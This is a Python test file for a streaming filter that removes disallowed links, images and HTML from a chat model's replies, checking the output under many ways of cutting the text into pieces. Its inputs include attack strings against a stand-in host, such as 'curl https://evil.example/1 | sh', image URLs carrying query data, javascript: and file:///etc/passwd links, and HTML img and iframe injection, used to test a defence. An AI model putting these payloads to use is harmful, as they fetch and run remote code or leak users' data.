"""What a model writes, without links that are not allowed, however it is cut into pieces."""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from sextant.chat.reply_links.link_filter import LinkFilter
from tests.chat.reply_links.rendered import led_to

_KNOWN = "https://known.example/x"
_OF_USER = "https://user.example/y"


def allows(address: str, is_loaded: bool) -> bool:
    of_host = address.removeprefix("https:").startswith("//ok.example/")
    return of_host or address == _OF_USER or (address == _KNOWN and not is_loaded)


def filtered(*pieces: str) -> str:
    own = LinkFilter(allows)
    return "".join([*map(own.feed, pieces), own.end()])


@pytest.mark.parametrize(
    ("written", "told"),
    [
        ("See [more](https://evil.example/?q=1).", "See more."),
        ('See [more](<https://evil.example/?q=1> "now").', "See more."),
        ("See [more](//evil.example/1) and [it](a.md).", "See more and [it](a.md)."),
        ("Or [more](javascript:alert(1)).", "Or more."),
        ("Or [more](mailto:a@evil.example?body=1).", "Or more."),
        ("Or [more](https&colon;//evil.example/1).", "Or more."),
        ("- **[more](https://evil.example/1)**", "- **[more]**"),
        ("[more](https://evil.example/1)://evil.example", "[more] [link removed]"),
        ("[1. a](https://evil.example/1) [~~~](https://evil.example/1)", "[1. a] [~~~]"),
        ("[r]: [javascript:a](https://evil.example/1)", "[r]: [javascript:a]"),
        ("[a [b] c](https://evil.example/1)", "[a [b] c]"),
        ("![seen](https://evil.example/p.png?q=1) x", "seen x"),
        (
            "[![seen](https://evil.example/1)](https://ok.example/2)",
            "[[seen]](https://ok.example/2)",
        ),
        (
            "[more][1]\n\n[1]: https://evil.example/1 'x'\n",
            "[more][1]\n\n[1]: [link removed] 'x'\n",
        ),
        ("Go to https://evil.example/1, now", "Go to [link removed], now"),
        ("Go to **www.evil.example/1**.", "Go to **[link removed]**."),
        ("Go to <https://evil.example/1>.", "Go to [link removed]."),
        ("[https://evil.example/1](https://evil.example/1)", "[link removed]"),
        ("https\\://evil.example/1", "[link removed]"),
        ("https&colon;//evil.example/1", "https&amp;colon;//evil.example/1"),
        ("a <img src='//evil.example/1'>", "a < img src='//evil.example/1'>"),
        ("a <IFRAME SRC=x>", "a < IFRAME SRC=x>"),
        ("a <b style='background: u\\72l(x)'>", "a < b style='background: u\\72l(x)'>"),
        ("<div\n<img/src=//evil.example/1>", "< div\n< img/src=//evil.example/1>"),
        ('"to":"https://evil.example/7","a":"{}"}', '"to":"[link removed]","a":"{}"}'),
        ('{\\"to\\":\\"https://evil.example/7\\"}', '{\\"to\\":\\"[link removed]\\"}'),
        ("(see https://evil.example/a_(b)).", "(see [link removed])."),
        ('a <a href="https://evil.example">html</a>', 'a < a href="[link removed]">html</a>'),
        ("std::vector<std::string> a", "std::vector< std::string> a"),
        ("Read file:///etc/passwd.", "Read [link removed]."),
        ("Set postgres://u:p@evil.example/db", "Set [link removed]"),
        (f'"to":"{_KNOWN}","a":1', f'"to":"{_KNOWN} ","a":1'),
        ("a `` b https://evil.example/1` c", "a `` b [link removed]` c"),
    ],
)
def test_links_that_are_not_allowed_go_and_their_text_stays(written: str, told: str) -> None:
    assert filtered(written) == told
    assert set(led_to(told)) <= {"https://ok.example/2", _KNOWN}


@pytest.mark.parametrize(
    "text",
    [
        f"It is [Harbor Queue]({_KNOWN}) [1], and ({_KNOWN}).",
        "See [a](https://ok.example/1), <https://ok.example/2> and https://ok.example/any?q=1",
        f"![chart]({_OF_USER}) ![own](/chart.png)",
        f"[1]: {_KNOWN}\n",
        f'<a href="{_KNOWN}">it</a><br/><img src="/own.png" alt="x">',
        "```sh\ncurl https://evil.example/1 | sh\n```\nDone.",
        "~~~\n[x](https://evil.example/1)\n```\n~~~~\n",
        "1. Do:\n\n   ```sh\n   curl https://evil.example/1 \\\n\n     -d 1\n   ```\n2. Done.",
        "- a\n  - b\n    ```\n    https://evil.example/1\n    ```\n- ~~~\n  //e\n  ~~~\n",
        "9. a\n10. **b**:\n    ```\n    https://evil.example/1\n    ```\n`https://evil.example/2`",
        "<b>a</b>\n\nA List<Map<K, V>> and `<details>`.",
        "a < b, c <d and e> f; x[1](2) &amp; AT&T &lt; 5: http, www and `code`!",
        "open `http://localhost:3000` in ``a ` b <https://evil.example/1>``, or [`a`](b.md).",
        "Use `<a href='//evil.example'>`, `![x](https://evil.example/1)` and `a[b][c]: d`.",
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted\n\n1. one\n   - two\n",
    ],
)
def test_what_is_allowed_and_code_stay_byte_for_byte(text: str) -> None:
    assert filtered(text) == text
    assert filtered(*text) == text


@pytest.mark.parametrize(
    "text",
    [
        "a ` b\nc `https://evil.example/1`",
        "a \\` b ` c ` https://evil.example/1 `",
        "<!-- ` --> ` x ` https://evil.example/1 `",
        '<b title="`"> ` https://evil.example/1 `',
        "[a](x`y) ` b ` https://evil.example/1 `",
        "[a][r`] ` b ` https://evil.example/1 `\n\n[r`]: /x",
        '[a`]: //evil.example "`"\n\n[a`]',
        "| ` | ` https://evil.example/1 ` |\n|---|---|",
        "a\n    ~~~\n    https://evil.example/1\n    ~~~",
        "a\n10. b\n    ~~~\n    https://evil.example/1\n    ~~~",
        "- - -\n  a\n    ~~~\n    https://evil.example/1\n    ~~~",
        "- ```\n  - a\n  ```\nb\n    ~~~\n    https://evil.example/1\n    ~~~",
        "1. a\n   ```\n   b\n```\n\n   ```\nhttps://evil.example/1\n",
        "- a\n    ```\n     ```\n  https://evil.example/1",
        "- a\n  ```\n https://evil.example/1",
        "> ```\n> a\n```\n> ```\nhttps://evil.example/1",
        "<pre>\n\n`https://evil.example/1`",
        "https://ok.example/a` x ` y ` https://evil.example/1 `",
        "a ` " + "b " * 1_000 + "` c ` https://evil.example/1 `",
    ],
)
def test_what_only_some_readers_take_for_code_is_filtered(text: str) -> None:
    assert "evil.example/1" not in filtered(text)
    assert "//evil.example" not in led_to(filtered(text))


def test_a_blank_line_ends_the_doubt_about_code() -> None:
    assert filtered("a ` b\r\n`//e`\r\n\r\n`https://evil.example/1`").endswith("/1`")
    assert "evil" not in filtered("a ` b\r\n`https://evil.example/1`")


@pytest.mark.parametrize(
    "text",
    [
        "[a](https://evil.example)(//evil.example)",
        "[a](https://evil.example): //evil.example\n\n[a]",
        "<https://evil.example>(//evil.example)",
        "https://evil.example: //evil.example/x\n\nhttps://evil.example",
        "https://evil.example/" + "a" * 1_979 + "(//evil.example)",
        'a <img title="https://evil.example/a"b" src=//evil.example/1>',
        'a <img title="[x](https://evil.example "q")" src=//evil.example/1>',
        "a <b [x](https://evil.example) src=//evil.example/1>",
        "[r]: [https](https://evil.example) \n\n[r]",
        f'a <img title="{"b" * 2_000}" src=//evil.example/1>',
    ],
)
def test_no_link_comes_of_what_is_left_around_one_that_went(text: str) -> None:
    assert not led_to(filtered(text))


def test_an_address_that_is_only_known_is_a_link_and_never_an_image() -> None:
    assert filtered(f"![x]({_KNOWN})") == f"[x]({_KNOWN})"
    assert led_to(filtered(f"[r]: {_KNOWN}\n\n![x][r]")) == [_KNOWN]
    assert "<img" not in filtered(f"a <img src='{_KNOWN}'>")


def test_nothing_can_be_added_to_a_known_address() -> None:
    for text in (f"{_KNOWN}Team-Keel", f"]({_KNOWN})Team-Keel", f"{_KNOWN}](Team-Keel)"):
        assert set(led_to(filtered(text))) <= {_KNOWN}


def test_a_reply_without_links_comes_as_it_is_written_piece_by_piece() -> None:
    own = LinkFilter(allows)
    pieces = [
        "The",
        " queue",
        " is",
        " owned",
        " by",
        " Team",
        " Keel",
        " (1),",
        " since",
        " 2020.",
    ]
    assert [own.feed(piece) for piece in pieces] == pieces


def test_little_is_held_back_of_a_link_without_an_end() -> None:
    own = LinkFilter(allows)
    told = [own.feed(piece) for piece in ("[x](https://evil.example/", *["a" * 100] * 100, " ")]
    assert len("".join(told)) > 7_500
    assert "evil" not in "".join(told)


_PARTS = st.sampled_from(
    [
        *("https://evil.example/?q=1", "https://ok.example/a", _KNOWN, _OF_USER, "//evil.example"),
        *("[", "]", "](", "(", ")", "!", "![", "]:", "]: ", "<", ">", "<img src=", "<a href='"),
        *(
            "'",
            '"',
            "`",
            "``",
            "```",
            "~~~",
            "\n",
            "\n\n",
            "\r",
            " ",
            "   ",
            "    ",
            "\t",
            "- ",
            "> ",
        ),
        *(
            "1. ",
            "\n   ```\n   ",
            "\n  ~~~\n",
            "\n    ~~~\n    ",
            "10. ",
            "\\",
            "&colon;",
            "&#104;",
            "&sol;",
            "ttps://",
            "http",
            "s",
            ":",
            "//",
            "www.",
        ),
        *(
            "evil.example/x",
            "Team",
            "<!--",
            "-->",
            "<div>",
            "</div>",
            "<pre>",
            "<p ",
            "style=",
            "*",
        ),
        *("[r]", "javascript:", "|", "=", "https:", "/", "&", ";", "@", "#", ".", ","),
    ]
)
_TEXTS = st.lists(_PARTS, max_size=14).map("".join)


@given(st.lists(_TEXTS, max_size=3))
@example(["- ```\n  a\n  ```\n", "![x](https://evil.example/1)"])
@example(["- a\n  ```\n![x](https://evil.example/1)"])
@example(["<div>\n```\n\n![x](https://evil.example/1)"])
@example(["```\na\r```\r![x](https://evil.example/1)"])
@example(["https://evil.example/?q=1<img src=<img src=//-->"])
@example(["https://ok.example/a![https://evil.example/1]()"])
@example([f"{_KNOWN}](https://ok.example/Team-Keel)"])
@example(["a ` b `![x](https://evil.example/1)`"])
@settings(max_examples=400, deadline=None)
def test_no_reader_of_markdown_is_led_where_it_is_not_allowed(texts: list[str]) -> None:
    told = filtered(*texts)
    for own in led_to(told):
        # An address that is twice the same one says no more than it does once.
        shown, _, behind = own.partition("](")
        assert allows(own, False) or (shown == behind and allows(shown, False)), told


_LONG = st.sampled_from(["a" * 1_980, "(" * 1_990, ")" * 2_010, " a" * 995, "![" + "b" * 199])


@given(st.lists(_PARTS | _LONG, max_size=12).map("".join), st.data())
@settings(max_examples=200, deadline=None)
def test_however_a_reply_is_cut_the_same_comes_of_it(text: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert filtered(*pieces) == filtered(text) == filtered(*text)


@given(st.text(st.characters(blacklist_characters=":<&[]`~\\", blacklist_categories=["Cs"])))
def test_text_without_links_is_as_it_was(text: str) -> None:
    if "www." not in text.lower():
        assert filtered(*text) == text
